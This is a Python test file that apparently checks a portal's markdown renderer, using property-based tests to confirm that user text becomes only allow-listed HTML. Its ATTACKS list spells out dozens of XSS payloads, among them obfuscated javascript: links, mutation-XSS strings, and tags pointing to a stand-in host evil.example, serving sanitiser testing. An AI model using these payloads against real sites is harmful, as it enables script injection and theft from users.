"""Whatever a person writes, a page shows it as text or as one of a few harmless elements."""

from collections.abc import Iterator
from urllib.parse import urlsplit
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.core.markdown import Rendered
from portal.core.markdown import render as render_with
from portal.library.glossary import Glossary, Term, render_body

ALLOWED = {
    "h2": {"id", "class"},
    "h3": {"id", "class"},
    "a": {"href", "class"},
    "th": {"scope", "class"},
    "ol": {"start", "class"},
    "div": {"class", "role", "tabindex", "aria-label"},
    "button": {"type", "popovertarget", "class"},
} | {
    tag: {"class"}
    for tag in [
        *("p", "ul", "li", "blockquote", "hr", "table", "thead", "tbody", "tr", "td"),
        *("strong", "em", "code", "pre", "br"),
    ]
}
SCHEMES = {"", "http", "https", "mailto", "tel"}
GLOSSARY = Glossary([Term("term-001", "MASH", ("<b>hub</b>",), "A hub.")])


def render(text: str) -> Rendered:
    return render_with(text, address_of=lambda reference: f"/library/{reference}")


def elements(html: str) -> Iterator[Element]:
    """Give the elements that a browser makes of `html`."""
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    yield from (element for element in tree.iter() if element is not tree)


def only(html: str, tag: str) -> Element:
    (element,) = (element for element in elements(html) if element.tag == tag)
    return element


def assert_harmless(html: str) -> None:
    for element in elements(html):
        assert element.tag in ALLOWED, element.tag
        assert set(element.attrib) <= ALLOWED[str(element.tag)], element.attrib
        assert urlsplit(element.get("href", "")).scheme in SCHEMES, element.attrib


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<p onclick=alert(1)>text</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=password>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<script",
    "<img src=x onerror=alert(1) //",
    "<div\n<script>alert(1)</script>",
    "</p></div><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a/b)",
    "[x](magnet:?xt=1)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[x](https://a "onmouseover=alert(1)")',
    '[x](https://a" onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "## <script>alert(1)</script>",
    '## x {#a onclick="alert(1)"}',
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    '| " onfocus=alert(1) x=" |\n|---|\n| x |',
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\x02wzxhzdk:0\x03<script>\x02klzzwxh:0000\x03",
    "*<script>*alert(1)</script>",
    "MASH <b>hub</b> MASH<script>",
    "[MASH](javascript:MASH)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_becomes_text(attack: str) -> None:
    for text in (attack, f"Before {attack} after", f"- a\n- {attack}\n\n{attack}"):
        assert_harmless(render(text).html)
        assert_harmless(render_body(text, GLOSSARY, "case-001").html)


PIECES = st.sampled_from(
    [
        *ATTACKS,
        *("<", ">", '"', "'", "](", ")", "[x", "`", "```\n", "\n", "\n\n", "    ", "> ", "- "),
        *(
            "## ",
            "|",
            "|\n|---|\n|",
            "&",
            "&#",
            ";",
            "\\",
            "javascript:",
            "<a href=",
            " onclick=x ",
        ),
        *("<!--", "-->", "MASH", "*", "_", "\x00", "\x02", "\x03", "doc:case-003", "<p ", "</"),
    ]
)


@settings(max_examples=200, deadline=None)
@given(st.lists(PIECES | st.text(max_size=4), max_size=8).map("".join))
def test_no_mixture_of_attacks_becomes_live_markup(text: str) -> None:
    assert_harmless(render(text).html)
    assert_harmless(render_body(text, GLOSSARY, "case-001").html)


def test_html_is_shown_as_it_was_typed() -> None:
    html = render("Text <b onclick=x>bold</b> 3 < 4 & more").html
    assert "".join(only(html, "p").itertext()) == "Text <b onclick=x>bold</b> 3 < 4 & more"


def test_a_block_of_html_is_shown_as_it_was_typed() -> None:
    shown = render("<div>\nA name\n</div>\n\nAfter.").html
    tree = html5lib.parseFragment(shown, namespaceHTMLElements=False)
    assert "<div>\nA name\n</div>" in "".join(tree.itertext())


@pytest.mark.parametrize(
    ("address", "href"),
    [
        ("doc:case-003", "/library/case-003"),
        ("https://www.gov.uk/", "https://www.gov.uk/"),
        ("mailto:a@example.org", "mailto:a@example.org"),
        ("tel:999", "tel:999"),
        ("doc:Case 3", None),
        ("doc:../admin", None),
        ("doc:case-003x", None),
    ],
)
def test_a_link_leads_to_a_document_the_web_a_mail_or_a_phone(
    address: str, href: str | None
) -> None:
    assert only(render(f"See [this]({address}).").html, "a").get("href") == href


def test_a_table_scrolls_by_itself_and_says_what_it_is() -> None:
    html = render("| Role's | Task |\n|:--|--:|\n| Manager | Signs |\n\nAfter.").html
    wrapper = only(html, "div")
    assert wrapper.get("tabindex") == "0"
    assert wrapper.get("role") == "region"
    assert wrapper.get("aria-label") == "Table: Role’s, Task"
    assert [child.tag for child in wrapper] == ["table"]
    assert [e.get("scope") for e in elements(html) if e.tag == "th"] == ["col", "col"]


def test_a_table_inside_a_quotation_scrolls_too() -> None:
    html = render("> | A |\n> |---|\n> | b |\n").html
    assert [child.tag for child in only(html, "blockquote")] == ["div"]


def test_every_heading_has_an_id_of_its_own() -> None:
    rendered = render("## Risk\n\na\n\n## Risk\n\nb\n\n### Risk\n\nc\n\n## 风险\n\nd\n\n## !\n\ne")
    ids = [element.get("id") for element in elements(rendered.html) if element.tag in {"h2", "h3"}]
    assert len(set(ids)) == 5
    assert all(ids)
    assert [heading.id for heading in rendered.headings] == ids


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from(["Risk", "Risk 1", "risk_1", "Risk_1", "!", "-", "é"]), max_size=8))
def test_no_headings_share_an_id(texts: list[str]) -> None:
    rendered = render("\n\n".join(f"## {text}\n\nText." for text in texts))
    ids = [heading.id for heading in rendered.headings]
    assert len(set(ids)) == len(ids) == len(texts)


def test_a_heading_is_listed_in_the_words_that_a_reader_sees() -> None:
    rendered = render("## The child's view & *more* `a<b`\n\n### Below\n")
    assert [(heading.level, heading.text) for heading in rendered.headings] == [
        (2, "The child’s view & more a<b"),
        (3, "Below"),
    ]


@pytest.mark.parametrize("text", ["Contents", "Related", "About document", "Main content"])
def test_a_heading_does_not_take_an_id_of_the_page_around_it(text: str) -> None:
    (heading,) = render(f"## {text}\n").headings
    assert heading.id.startswith("section-")


def test_two_tables_with_the_same_columns_can_be_told_apart() -> None:
    table = "| Role | Task |\n|---|---|\n| Manager | Signs |\n\n"
    html = render(table + "Then.\n\n" + table).html
    labels = [element.get("aria-label") for element in elements(html) if element.tag == "div"]
    assert len(set(labels)) == len(labels) == 2


def test_many_links_and_brackets_in_one_paragraph_stay_links() -> None:
    text = "(see [one](doc:case-001) [and [two](doc:case-002)]) " * 40
    assert render(text).html.count("<a ") == 80


def test_a_list_keeps_the_number_it_starts_with() -> None:
    assert only(render("4. Ring\n5. Write").html, "ol").get("start") == "4"


@pytest.mark.parametrize(
    "text",
    [
        "> " * 3000 + "x",
        "*" * 5000,
        "[" * 20_000,
        "![" * 10_000,
        "[a](" * 12_000,
        "[[" * 4500 + "x" + "]]" * 4500,
        "## a\n\n" * 3000,
        "`" * 3001,
        "|" * 3000,
    ],
    ids=[
        "quotations",
        "stars",
        "brackets",
        "pictures",
        "links",
        "pairs",
        "headings",
        "code",
        "bars",
    ],
)
def test_a_text_that_is_one_long_trick_is_still_rendered(text: str) -> None:
    assert_harmless(render(text).html)
